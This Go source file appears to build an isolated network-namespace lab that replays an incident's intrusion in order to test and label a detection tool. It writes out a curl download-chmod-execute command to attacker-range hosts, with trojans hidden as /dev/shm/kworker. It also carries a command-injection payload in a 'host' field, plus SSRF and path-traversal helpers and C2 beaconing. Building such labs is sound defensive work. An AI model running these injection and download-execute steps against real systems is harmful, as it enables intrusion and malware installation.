// Package lab stages the intrusion of the incident report on one machine, for
// real and harmlessly: a Java web service with a command-injection hole in one
// network namespace, the intruder with download server, C2 and name server in
// another, and no route from either to the machine's own network. A fleet has a
// second host with that service, and one with another service in a container.
//
// The lab also writes the labels: which processes and files the intrusion made,
// from what the service, the trojan and the C2 themselves report, never from
// what Baize says.
package lab

import (
	"context"
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"time"
)

// Addresses of the laboratory. The outer ones are documentation addresses.
const (
	ServiceAddress = "10.203.0.2"
	secondAddress  = "10.203.0.3"
	apiAddress     = "10.203.0.4"
	routerAddress  = "10.203.0.1"
	servicePort    = "8080"

	AttackerAddress = "203.0.113.50"
	// OtherAddress is another attacker's.
	OtherAddress  = "198.51.100.61"
	nameServer    = "203.0.113.53"
	dnslogAddress = "203.0.113.88"
)

// DNSLog is a name that only a scan for blind holes asks for.
const DNSLog = "k3x9.dnslog.cn"

// Round is one delivery of the trojan: its own name, bytes and addresses.
type Round struct {
	// Remote is the name on the download server, Path where the shell puts it.
	Remote, Path string
	// Download and C2 are outer addresses; C2 has a port.
	Download, C2 string
}

// Rounds of the report: after the first was fought off, everything rotated.
var Rounds = []Round{
	{Remote: "t", Path: "/dev/shm/kworker", Download: "203.0.113.9", C2: "203.0.113.77:443"},
	{Remote: "u", Path: "/dev/shm/databus00000000abc", Download: "198.51.100.20", C2: "198.51.100.23:443"},
}

// Command is what the intruder injects to deliver the round.
func (r Round) Command() string {
	return fmt.Sprintf("curl -s http://%s/%s -o %s; chmod +x %s; %s", r.Download, r.Remote, r.Path, r.Path, r.Path)
}

// Fileless are commands that run the round's image, once it is there, as a
// memfd and as a file that was deleted before it was executed.
func (r Round) Fileless() []string { return []string{r.Path + " memfd", r.Path + " deleted"} }

// Options of a Lab.
type Options struct {
	// Name tells this laboratory's namespaces from others'.
	Name string
	// Beacons bounds a trojan's life in seconds.
	Beacons int
	// Hosts of the laboratory, Machine where there are none.
	Hosts []Host
	// Docker is where the container runtime of API will listen, a path.
	Docker string
}

// Lab is a running laboratory. Close ends it.
type Lab struct {
	opts    Options
	lock    *os.File
	dir     string
	space   *namespaces
	outside *outside
	docker  *docker
	// services by host.
	services map[string]*service
	labels   recorder
}

// Start builds the programs, makes the namespaces and starts both sides. It
// needs root.
func Start(ctx context.Context, opts Options) (lab *Lab, err error) {
	if len(opts.Hosts) == 0 {
		opts.Hosts = Machine()
	}
	lab = &Lab{opts: opts, services: map[string]*service{}}
	defer func() {
		if err != nil {
			err = errors.Join(fmt.Errorf("laboratory: %w", err), lab.Close())
		}
	}()
	if lab.lock, err = lock(ctx); err != nil {
		return lab, err
	}
	if lab.dir, err = os.MkdirTemp("", "baize-lab-"); err != nil {
		return lab, err
	}
	if err = os.Chmod(lab.dir, 0o755); err != nil {
		return lab, err
	}
	if err = lab.build(ctx); err != nil {
		return lab, err
	}
	if lab.space, err = newNamespaces(ctx, opts.Name, opts.Hosts); err != nil {
		return lab, err
	}
	if lab.outside, err = startOutside(lab.dir, lab.space.outer(), &lab.labels); err != nil {
		return lab, err
	}
	for _, h := range opts.Hosts {
		if err = lab.serve(ctx, h); err != nil {
			return lab, fmt.Errorf("%s: %w", h.Name, err)
		}
	}
	return lab, nil
}

// serve starts the service of a host.
func (l *Lab) serve(ctx context.Context, h Host) (err error) {
	if h.Name == API {
		if l.docker, err = startDocker(ctx, l.opts.Docker, h, l.space.of(h.Name)); err != nil {
			return err
		}
		l.services[h.Name], err = l.docker.serve(ctx, l.dir, h, &l.labels)
		return err
	}
	l.services[h.Name], err = startService(ctx, l.dir, h, l.space.of(h.Name), &l.labels)
	return err
}

// Close ends every process the lab started, removes its namespaces and the
// files the intrusion left.
func (l *Lab) Close() error {
	var all []error
	for _, service := range l.services {
		if service != nil {
			all = append(all, service.stop())
		}
	}
	if l.docker != nil {
		all = append(all, l.docker.stop())
	}
	all = append(all, l.endTrojans())
	if l.outside != nil {
		all = append(all, l.outside.stop())
	}
	if l.space != nil {
		all = append(all, l.space.remove())
	}
	all = append(all, l.removeFiles())
	if l.dir != "" {
		all = append(all, os.RemoveAll(l.dir))
	}
	if l.lock != nil {
		all = append(all, l.lock.Close())
	}
	return errors.Join(all...)
}

// Inject sends command through the hole of Web and returns what the service
// answered, after the shell has ended.
func (l *Lab) Inject(ctx context.Context, command string) (answer string, err error) {
	return l.InjectInto(ctx, Web, command)
}

// InjectInto is Inject for another host with that service.
func (l *Lab) InjectInto(ctx context.Context, host, command string) (answer string, err error) {
	return l.InjectFrom(ctx, AttackerAddress, host, command)
}

// InjectFrom is InjectInto by somebody at another outside address.
func (l *Lab) InjectFrom(ctx context.Context, source, host, command string) (answer string, err error) {
	l.labels.addCommand(command)
	return l.outside.attack(ctx, source, l.url(host, "lookup"), "host", "127.0.0.1;"+command)
}

// Fetch makes the service of API fetch an address, which is the hole of that one.
func (l *Lab) Fetch(ctx context.Context, address string) (answer string, err error) {
	return l.outside.attack(ctx, AttackerAddress, l.url(API, "download"), "url", address)
}

// FetchCommand makes the service of API inject a command into the service of another
// host, which sees the API as its client.
func (l *Lab) FetchCommand(ctx context.Context, host, command string) (answer string, err error) {
	l.labels.addCommand(command)
	return l.Fetch(ctx, l.url(host, "lookup")+"?host="+url.QueryEscape("127.0.0.1;"+command))
}

// Report asks the service of Web or Second for a report, whose name may lead out of
// the directory of the reports.
func (l *Lab) Report(ctx context.Context, host, name string) (answer string, err error) {
	return l.outside.attack(ctx, AttackerAddress, l.url(host, "report"), "name", name)
}

// Health asks the service of a host whether it is well, as an ordinary client: no shell.
func (l *Lab) Health(ctx context.Context, host string) error {
	_, err := l.outside.attack(ctx, AttackerAddress, l.url(host, "health"), "host", "")
	return err
}

func (l *Lab) url(host, page string) string {
	for _, h := range l.opts.Hosts {
		if h.Name == host {
			return "http://" + h.Address + ":" + servicePort + "/" + page
		}
	}
	return "no host " + host
}

// Trojans is how many of that path, or of one that begins with it, have spoken to
// their C2.
func (l *Lab) Trojans(path string) int { return l.labels.trojansAt(path) }

// WaitBeacon waits until n trojans, whose image had that path or one that begins
// with it, have spoken to their C2.
func (l *Lab) WaitBeacon(ctx context.Context, path string, n int) error {
	for {
		if l.labels.trojansAt(path) >= n {
			return nil
		}
		select {
		case <-ctx.Done():
			return fmt.Errorf("fewer than %d beaconing trojans from %s: %w", n, path, ctx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// Services are the process ids of the hosts' services.
func (l *Lab) Services() map[string]int {
	pids := map[string]int{}
	for host, service := range l.services {
		pids[host] = service.pid
	}
	return pids
}

// Labels is a copy of what the intrusion is known to have made so far.
func (l *Lab) Labels() Labels { return l.labels.copy() }

func (l *Lab) downloads() string { return filepath.Join(l.dir, "downloads") }
